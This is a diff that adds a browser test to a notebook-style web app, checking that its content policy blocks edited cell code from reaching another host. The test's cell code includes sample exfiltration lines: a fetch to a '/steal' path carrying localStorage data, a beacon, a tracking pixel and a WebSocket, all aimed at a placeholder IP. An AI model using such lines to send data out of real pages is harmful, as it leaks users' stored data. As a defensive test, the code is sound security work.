@@ -202,6 +202,53 @@ async function fillStorage(page: Page): Promise<void> {
   });
 }
 
+describe("accepted code still cannot reach beyond the page's origin", () => {
+  it("the content policy blocks an edit's fetch, beacon, image and WebSocket to another host", async () => {
+    const { context, page } = await newPage();
+    // Another host that answers everything: what the policy lets through would reach it.
+    const reached: string[] = [];
+    await context.route("http://198.51.100.7/**", (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({ status: 200, body: "" });
+    });
+    await page.addInitScript(() => {
+      const blocked: string[] = [];
+      (window as unknown as { __blocked: string[] }).__blocked = blocked;
+      document.addEventListener("securitypolicyviolation", (e) => blocked.push(e.blockedURI));
+    });
+    await gotoAndSettle(page, siteUrl(SELFTEST));
+    const away = "http://198.51.100.7";
+    await editAndRun(
+      page,
+      OK,
+      [
+        `const sent = await fetch("${away}/steal?" + localStorage.length).then(() => "sent", () => "refused");`,
+        `navigator.sendBeacon("${away}/beacon", "edits");`,
+        `new Image().src = "${away}/pixel.png";`,
+        `try { new WebSocket("ws://198.51.100.7/socket"); } catch {}`,
+        "const total = 10;",
+        "display(sent);",
+      ].join("\n"),
+    );
+    await expect
+      .poll(() => cellLocator(page, OK).locator(".fd-output").textContent(), { timeout: 15_000 })
+      .toContain("refused");
+    await expect
+      .poll(() => page.evaluate(() => (window as unknown as { __blocked: string[] }).__blocked))
+      .toEqual(
+        expect.arrayContaining([
+          expect.stringContaining(`${away}/steal`),
+          expect.stringContaining(`${away}/beacon`),
+          expect.stringContaining(`${away}/pixel.png`),
+          expect.stringContaining("ws://198.51.100.7/socket"),
+        ]),
+      );
+    expect(reached, "requests that reached the other host").toEqual([]);
+    expect(await doubled(page), "the cells that use it still compute").toBe("20");
+    await context.close();
+  });
+});
+
 describe("full storage", () => {
   it("a damaged record says so once, truthfully, and leaves the cells usable", async () => {
     const context = await browser.newContext({ viewport: TALL });
